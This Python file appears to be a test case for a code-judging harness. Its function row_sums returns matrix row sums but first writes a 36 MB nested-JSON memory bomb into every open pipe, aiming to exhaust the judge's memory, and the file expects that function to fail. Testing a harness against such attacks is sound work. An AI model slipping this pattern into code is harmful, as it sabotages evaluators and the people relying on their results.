# verdict: row_sums=error or timeout, doubled=passed
"""Sends 36 MB of JSON that would fill twenty times as much memory of the judge."""

import os
import stat
import struct

TREE = b"[" + b"[]," * (12 * 2**20) + b"0]"


def row_sums(matrix):
    message = struct.pack(">4sIQ", b"IHW1", len(TREE), 0) + TREE
    for descriptor in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                while message:
                    message = message[os.write(descriptor, message) :]
        except OSError:
            pass
    return matrix.sum(1)


def doubled(number):
    return 2 * number
